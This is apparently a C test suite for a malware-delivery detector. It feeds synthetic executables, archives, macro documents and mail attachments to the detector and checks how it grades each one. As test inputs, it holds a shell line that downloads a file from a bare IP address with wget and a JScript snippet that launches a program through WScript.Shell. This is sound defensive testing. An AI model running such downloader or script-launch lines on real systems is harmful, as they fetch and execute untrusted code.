/* test_delivery.c -- delivery_judge on downloads and mail attachments typed
 * from real byte layouts: a lying name or Content-Type, encrypted bytes
 * labelled executable and unsigned code from an address are strong; an
 * unsigned Windows executable fetched by a tool, from a dynamic DNS name,
 * or a risky kind (macro document, script, archive holding code) is an
 * alert; any other executable an anomaly; ELF is never judged unsigned;
 * a browser's JavaScript is no delivery; mail attachments alert. */
#include <math.h>

#include "content/filetype.h"
#include "detect/delivery.h"
#include "flow/flow.h"
#include "proto/http.h"
#include "testing.h"

/* ---- bytes ----------------------------------------------------------------- */

static uint8_t buf[20000];
static size_t len;

static void set16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v, p[1] = (uint8_t)(v >> 8); }
static void set32(uint8_t *p, uint32_t v) { set16(p, (uint16_t)v), set16(p + 2, (uint16_t)(v >> 16)); }

/* A PE32 header: a DLL or an EXE, with or without a certificate table. */
static void pe(bool dll, bool signed_)
{
    memset(buf, 0, sizeof(buf));
    len = 1024;
    buf[0] = 'M', buf[1] = 'Z';
    set32(buf + 0x3c, 0x80);
    memcpy(buf + 0x80, "PE\0\0", 4);
    set16(buf + 0x84, 0x14c);
    set16(buf + 0x84 + 16, 224);
    set16(buf + 0x84 + 18, dll ? 0x2102 : 0x0102);
    uint8_t *opt = buf + 0x84 + 20;
    set16(opt, 0x10b);
    set32(opt + 92, 16);
    if (signed_) {
        set32(opt + 96 + 32, 0x3000);
        set32(opt + 96 + 36, 0x500);
    }
}

static void elf(void)
{
    memset(buf, 0, sizeof(buf));
    memcpy(buf, "\x7f" "ELF\x02\x01\x01\x00", 8);
    len = 64;
}

static void text(const char *s)
{
    memset(buf, 0, sizeof(buf));
    len = strlen(s);
    memcpy(buf, s, len);
}

static void random_bytes(size_t n)
{
    uint32_t x = 88172645u;
    for (size_t i = 0; i < n; i++) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        buf[i] = (uint8_t)(x >> 7);
    }
    buf[0] = 0x33, buf[1] = 0x91;          /* no magic by chance */
    len = n;
}

/* A stored ZIP with a central directory listing the names. */
static void zip(const char *const *names, int n)
{
    memset(buf, 0, sizeof(buf));
    len = 0;
    uint32_t off[8];
    for (int i = 0; i < n; i++) {
        uint16_t nl = (uint16_t)strlen(names[i]);
        off[i] = (uint32_t)len;
        set32(buf + len, 0x04034b50);
        set16(buf + len + 4, 20);
        set16(buf + len + 26, nl);
        memcpy(buf + len + 30, names[i], nl);
        len += 30 + nl;
    }
    uint32_t cd = (uint32_t)len;
    for (int i = 0; i < n; i++) {
        uint16_t nl = (uint16_t)strlen(names[i]);
        set32(buf + len, 0x02014b50);
        set16(buf + len + 4, 20);
        set16(buf + len + 6, 20);
        set16(buf + len + 28, nl);
        set32(buf + len + 42, off[i]);
        memcpy(buf + len + 46, names[i], nl);
        len += 46 + nl;
    }
    uint32_t end = (uint32_t)len;
    set32(buf + len, 0x06054b50);
    set16(buf + len + 8, (uint16_t)n);
    set16(buf + len + 10, (uint16_t)n);
    set32(buf + len + 12, end - cd);
    set32(buf + len + 16, cd);
    len += 22;
}

/* ---- the download ---------------------------------------------------------- */

static struct content_result r;
static struct http_tx tx;
static struct flow *fl;
static struct event_subject subj;
static struct finding fd;

#define CHROME "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 " \
               "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"

static void setup(void)
{
    fl = calloc(1, sizeof(struct flow));
    fl->key.ip_version = 4;
    fl->key.proto = 6;
    fl->key.lo.b[0] = 10, fl->key.lo.b[3] = 5;                  /* 10.0.0.5 */
    fl->key.hi.b[0] = 198, fl->key.hi.b[1] = 51, fl->key.hi.b[2] = 100,
    fl->key.hi.b[3] = 7;                                        /* 198.51.100.7 */
    fl->key.lo_port = 50000;
    fl->key.hi_port = 80;
    fl->client_is_lo = 1;
    subj = event_subject_of(fl);
}

/* Judges buf[0..len) downloaded from host/uri by ua under name, served as
 * ctype; returns whether it is a finding. */
static bool download(const char *host, const char *uri, const char *ua, const char *ctype,
                     const char *name, uint64_t size)
{
    memset(&r, 0, sizeof(r));
    file_type_sniff(buf, len, 0, &r.type);
    memset(&tx, 0, sizeof(tx));
    snprintf(tx.method, sizeof(tx.method), "GET");
    snprintf(tx.host, sizeof(tx.host), "%s", host);
    snprintf(tx.uri, sizeof(tx.uri), "%s", uri);
    snprintf(tx.user_agent, sizeof(tx.user_agent), "%s", ua);
    snprintf(tx.resp_content_type, sizeof(tx.resp_content_type), "%s", ctype);
    tx.have_response = true;
    tx.status = 200;
    struct delivery_input in = {
        .subj = &subj, .tx = &tx, .r = &r, .name = name, .size = size ? size : len,
        .dir = 1, .mail = false, .ts_usec = 1700000000000000ull,
    };
    memset(&fd, 0xa5, sizeof(fd));
    return delivery_judge(&in, &fd);
}

static bool attachment(const char *name)
{
    memset(&r, 0, sizeof(r));
    file_type_sniff(buf, len, 0, &r.type);
    struct delivery_input in = {
        .subj = &subj, .tx = NULL, .r = &r, .name = name, .size = len, .dir = 0,
        .mail = true, .ts_usec = 1700000000000000ull,
    };
    memset(&fd, 0xa5, sizeof(fd));
    return delivery_judge(&in, &fd);
}

/* severity, anomaly and strong as a level: 1 strong, 2 alert, 3 anomaly */
static void check_level(int line, int level)
{
    bool ok = fd.kind == FINDING_delivery && fd.stage == STAGE_INITIAL_ACCESS &&
              fd.severity == level && fd.anomaly == (level == 3) &&
              fd.strong == (level == 1);
    if (!ok) {
        fprintf(stderr, "  %s:%d: level %d expected: kind %d severity %u anomaly %d "
                "strong %d\n", __FILE__, line, level, fd.kind, fd.severity, fd.anomaly,
                fd.strong);
        t_failed_checks++;
    }
}
#define LEVEL(n) check_level(__LINE__, (n))

static void test_a_pe_named_like_an_image_is_strong(void)
{
    pe(false, false);
    CHECK(download("cdn.example.com", "/dl/invoice.png", CHROME, "application/octet-stream",
                   "invoice.png", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "unsigned name_lies");
    CHECK_STR(fd.detail, "Windows executable (PE) downloaded as \"invoice.png\" (1024 bytes); "
                         "it is not signed; its name does not say it is code; "
                         "from cdn.example.com/dl/invoice.png");
    CHECK_EQ(fd.ip_version, 4);
    CHECK_EQ(fd.host.b[0], 10);
    CHECK_EQ(fd.host.b[3], 5);
    CHECK_EQ(fd.peer.b[0], 198);
    CHECK(fd.has_peer);
    CHECK_EQ(fd.port, 80);
    CHECK(fd.flow == fl);
    CHECK_EQ(fd.observed, 1024);
    CHECK_STR(fd.unit, "bytes");
    CHECK(isnan(fd.baseline) && isnan(fd.deviation));
    /* signed, it still lies about being an image */
    pe(false, true);
    CHECK(download("cdn.example.com", "/dl/invoice.png", CHROME, "", "invoice.png", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "signed name_lies");
    /* no executable name at all: unsigned lies, signed does not */
    pe(false, false);
    CHECK(download("cdn.example.com", "/dl/get?id=7", CHROME, "", "get", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "unsigned name_lies");
    pe(false, true);
    CHECK(download("cdn.example.com", "/dl/get?id=7", CHROME, "", "get", 0));
    LEVEL(3);
    CHECK_STR(fd.indicators, "signed");
}

static void test_a_content_type_that_says_not_code_is_strong(void)
{
    pe(true, false);
    CHECK(download("cdn.example.com", "/x/update.dll", CHROME, "image/gif", "update.dll", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "unsigned type_lies");
    CHECK(strstr(fd.detail, "Windows executable (PE) (DLL) downloaded as \"update.dll\"") == fd.detail);
    CHECK(strstr(fd.detail, "; its Content-Type says it is not code") != NULL);
    /* native code served as text; a script served as text is no lie */
    elf();
    CHECK(download("mirror.example.org", "/bin/tool", "Wget/1.21.3", "text/plain; charset=utf-8",
                   "tool", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "type_lies not_a_browser");
    text("#!/bin/sh\nchmod +x /tmp/x; wget http://198.51.100.7/x -O /tmp/x\n");
    CHECK(download("mirror.example.org", "/i.sh", "Wget/1.21.3", "text/plain", "i.sh", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "not_a_browser risky_kind");
    /* an executable Content-Type on a PE is the truth */
    pe(false, true);
    CHECK(download("cdn.example.com", "/x/setup.exe", CHROME, "application/x-msdownload",
                   "setup.exe", 0));
    LEVEL(3);
}

static void test_signed_pe_by_a_browser_is_an_anomaly(void)
{
    pe(false, true);
    CHECK(download("download.example.com", "/setup.exe", CHROME, "application/octet-stream",
                   "setup.exe", 0));
    LEVEL(3);
    CHECK_STR(fd.indicators, "signed");
    CHECK_STR(fd.detail, "Windows executable (PE) downloaded as \"setup.exe\" (1024 bytes); "
                         "it carries an Authenticode signature; "
                         "from download.example.com/setup.exe");
    /* unsigned, by a browser, from a name: still only an anomaly */
    pe(false, false);
    CHECK(download("download.example.com", "/setup.exe", CHROME, "", "setup.exe", 0));
    LEVEL(3);
    CHECK_STR(fd.indicators, "unsigned");
    /* signed, by curl: the signature keeps it an anomaly */
    pe(false, true);
    CHECK(download("download.example.com", "/setup.exe", "curl/8.4.0", "", "setup.exe", 0));
    LEVEL(3);
    CHECK_STR(fd.indicators, "signed not_a_browser");
    /* signed, by address, by a browser: an anomaly (a peer cache, a share) */
    pe(false, true);
    CHECK(download("198.51.100.9", "/t1", CHROME, "", "t1", 0));
    LEVEL(3);
    CHECK_STR(fd.indicators, "signed by_address");
    /* signed, by address, by a client that is no browser: a stager's
     * download -- an alert, the signature notwithstanding */
    CHECK(download("198.51.100.9", "/t1", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
                   "", "t1", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "signed by_address not_a_browser");
}

static void test_unsigned_pe_by_a_tool_is_an_alert(void)
{
    pe(false, false);
    CHECK(download("download.example.com", "/setup.exe", "curl/8.4.0", "", "setup.exe", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "unsigned not_a_browser");
    CHECK_STR(fd.detail, "Windows executable (PE) downloaded as \"setup.exe\" (1024 bytes); "
                         "it is not signed; fetched by tool (User-Agent \"curl/8.4.0\"); "
                         "from download.example.com/setup.exe");
    /* no User-Agent; a 2010 Internet Explorer; PowerShell */
    CHECK(download("download.example.com", "/setup.exe", "", "", "setup.exe", 0));
    LEVEL(2);
    CHECK(strstr(fd.detail, "fetched by a client with no User-Agent") != NULL);
    CHECK(download("download.example.com", "/setup.exe",
                   "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", "", "setup.exe", 0));
    LEVEL(2);
    CHECK(strstr(fd.detail, "fetched by legacy browser") != NULL);
    CHECK(download("download.example.com", "/setup.exe",
                   "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1",
                   "", "setup.exe", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "unsigned not_a_browser");
    /* the operating system's own updater is no tool */
    CHECK(download("download.example.com", "/setup.exe", "Microsoft BITS/7.8", "",
                   "setup.exe", 0));
    LEVEL(3);
    /* from a dynamic DNS name, by a browser */
    CHECK(download("files.duckdns.org", "/setup.exe", CHROME, "", "setup.exe", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "unsigned dynamic_dns");
    CHECK(strstr(fd.detail, "; from a dynamic DNS name; from files.duckdns.org/setup.exe") != NULL);
}

static void test_unsigned_code_from_an_address_is_strong(void)
{
    pe(false, false);
    CHECK(download("198.51.100.7", "/setup.exe", CHROME, "", "setup.exe", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "unsigned by_address");
    CHECK(strstr(fd.detail, "; the server was asked for by address") != NULL);
    CHECK(download("198.51.100.7:8080", "/setup.exe", CHROME, "", "setup.exe", 0));
    LEVEL(1);
    /* no Host at all */
    CHECK(download("", "/setup.exe", CHROME, "", "setup.exe", 0));
    LEVEL(1);
    /* signed from an address: an anomaly */
    pe(false, true);
    CHECK(download("198.51.100.7", "/setup.exe", CHROME, "", "setup.exe", 0));
    LEVEL(3);
    CHECK_STR(fd.indicators, "signed by_address");
}

static void test_elf_is_not_judged_unsigned(void)
{
    elf();
    CHECK(download("mirror.example.org", "/bin/agent", "Wget/1.21.3", "application/octet-stream",
                   "agent", 0));
    LEVEL(3);
    CHECK_STR(fd.indicators, "not_a_browser");
    CHECK(strstr(fd.detail, "ELF executable downloaded as \"agent\" (64 bytes); fetched by tool") ==
          fd.detail);
    CHECK(download("mirror.example.org", "/bin/agent", "Wget/1.21.3", "", "agent", 0));
    LEVEL(3);
    /* from an address it is strong like any other code */
    CHECK(download("198.51.100.7", "/bin/agent", "Wget/1.21.3", "", "agent", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "by_address not_a_browser");
}

static void test_encrypted_bytes_labelled_executable(void)
{
    random_bytes(10240);
    CHECK(download("cdn.example.com", "/x", CHROME, "application/x-msdownload", "x", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "encrypted_payload");
    CHECK_STR(fd.detail, "encrypted bytes labelled as an executable downloaded as \"x\" "
                         "(10240 bytes); the bytes look encrypted; from cdn.example.com/x");
    /* one byte fewer; labelled as anything else; not high entropy */
    random_bytes(10239);
    CHECK(!download("cdn.example.com", "/x", CHROME, "application/x-msdownload", "x", 0));
    random_bytes(10240);
    CHECK(!download("cdn.example.com", "/x", CHROME, "application/octet-stream", "x", 0));
    CHECK(!download("cdn.example.com", "/x", CHROME, "", "x", 0));
    text("just some words, nothing encrypted here at all, repeated often enough. ");
    CHECK(!download("cdn.example.com", "/x", CHROME, "application/x-msdownload", "x", 20000));
    /* the size counted is the file's, not the bytes kept */
    random_bytes(4096);
    CHECK(download("cdn.example.com", "/x", CHROME, "application/vnd.microsoft.portable-executable",
                   "x", 50000));
    LEVEL(1);
}

static void test_scripts_to_a_browser_are_no_delivery(void)
{
    text("var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");");
    CHECK(!download("www.example.com", "/js/app.js", CHROME, "application/javascript",
                    "app.js", 0));
    /* offered as a file to save */
    snprintf(tx.filename, sizeof(tx.filename), "app.js");
    memset(&r, 0, sizeof(r));
    file_type_sniff(buf, len, 0, &r.type);
    struct delivery_input in = {
        .subj = &subj, .tx = &tx, .r = &r, .name = "app.js", .size = len, .dir = 1,
        .ts_usec = 1,
    };
    CHECK(delivery_judge(&in, &fd));
    LEVEL(2);
    CHECK_STR(fd.indicators, "risky_kind");
    CHECK(strstr(fd.detail, "; a type that runs when opened") != NULL);
    /* fetched by a tool */
    CHECK(download("www.example.com", "/js/app.js", "python-requests/2.31", "", "app.js", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "not_a_browser risky_kind");
    /* a script named as text is no lie; named as an image it is */
    CHECK(download("www.example.com", "/a.txt", "curl/8.4.0", "", "a.txt", 0));
    LEVEL(2);
    CHECK(download("www.example.com", "/a.png", "curl/8.4.0", "", "a.png", 0));
    LEVEL(1);
    CHECK_STR(fd.indicators, "name_lies not_a_browser risky_kind");
    /* one marker is text, not a script */
    text("var s = new ActiveXObject(\"Shell.Foo\");");
    CHECK(!download("www.example.com", "/a.js", "curl/8.4.0", "", "a.js", 0));
}

static void test_macro_documents_and_archives_holding_code(void)
{
    static const char *const docm[] = { "[Content_Types].xml", "word/document.xml",
                                         "word/vbaProject.bin" };
    zip(docm, 3);
    CHECK(download("share.example.com", "/report.docm", CHROME, "", "report.docm", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "risky_kind");
    CHECK(strstr(fd.detail, "Office Open XML document with macros or embedded objects "
                            "downloaded as \"report.docm\"") == fd.detail);
    /* the same without the VBA project: no delivery */
    zip(docm, 2);
    CHECK(!download("share.example.com", "/report.docx", CHROME, "", "report.docx", 0));
    /* an archive holding an executable; one holding text */
    static const char *const arch[] = { "readme.txt", "bin/a.exe" };
    zip(arch, 2);
    CHECK(download("share.example.com", "/files.zip", CHROME, "application/zip", "files.zip", 0));
    LEVEL(2);
    CHECK_STR(fd.indicators, "risky_kind");
    CHECK(strstr(fd.detail, ", holding bin/a.exe)") != NULL);
    zip(arch, 1);
    CHECK(!download("share.example.com", "/files.zip", CHROME, "application/zip", "files.zip", 0));
}

static void test_mail_attachments_alert(void)
{
    pe(false, false);
    CHECK(attachment("invoice.exe"));
    LEVEL(2);
    CHECK_STR(fd.indicators, "unsigned");
    CHECK_STR(fd.detail, "Windows executable (PE) attached to mail as \"invoice.exe\" "
                         "(1024 bytes); it is not signed");
    CHECK(!fd.has_peer);                     /* the pipeline picks the internal end */
    CHECK_EQ(fd.port, 0);
    /* signed, still an alert: nobody mails programs */
    pe(false, true);
    CHECK(attachment("tool.exe"));
    LEVEL(2);
    /* named as a PDF: strong */
    pe(false, false);
    CHECK(attachment("invoice.pdf"));
    LEVEL(1);
    CHECK_STR(fd.indicators, "unsigned name_lies");
    /* a real PDF: nothing */
    text("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n");
    CHECK(!attachment("invoice.pdf"));
}

static void test_uploads_are_not_deliveries(void)
{
    pe(false, false);
    memset(&r, 0, sizeof(r));
    file_type_sniff(buf, len, 0, &r.type);
    struct delivery_input in = {
        .subj = &subj, .tx = &tx, .r = &r, .name = "a.exe", .size = len, .dir = 0,
        .ts_usec = 1,
    };
    CHECK(!delivery_judge(&in, &fd));
    in.dir = 1;
    CHECK(delivery_judge(&in, &fd));
}

static void teardown(void)
{
    free(fl);
}

TEST_LIST_FIXTURE(setup, teardown, test_a_pe_named_like_an_image_is_strong,
          test_a_content_type_that_says_not_code_is_strong,
          test_signed_pe_by_a_browser_is_an_anomaly, test_unsigned_pe_by_a_tool_is_an_alert,
          test_unsigned_code_from_an_address_is_strong, test_elf_is_not_judged_unsigned,
          test_encrypted_bytes_labelled_executable, test_scripts_to_a_browser_are_no_delivery,
          test_macro_documents_and_archives_holding_code, test_mail_attachments_alert,
          test_uploads_are_not_deliveries)
